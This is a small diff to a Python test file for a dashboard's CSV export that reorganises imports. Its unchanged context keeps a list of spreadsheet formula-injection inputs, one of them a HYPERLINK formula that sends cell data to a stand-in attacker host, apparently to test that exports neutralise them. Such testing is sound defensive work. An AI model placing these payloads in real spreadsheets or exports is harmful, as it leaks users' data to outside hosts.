@@ -21,8 +21,9 @@ from dashboard import audit, users_csv
 from ingestion.run import Ingester
 from settings import Settings
 
-from .support import ROOT, add_stats, closed_port, server_command, sftpgo_line, wait_until_serving
-from .test_api import client_for
+from tests.support.dashboard import (ROOT, add_stats, client_for, closed_port, server_command,
+                                     sftpgo_line,
+                                     wait_until_serving)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3",
            "\tx", "\rx"]
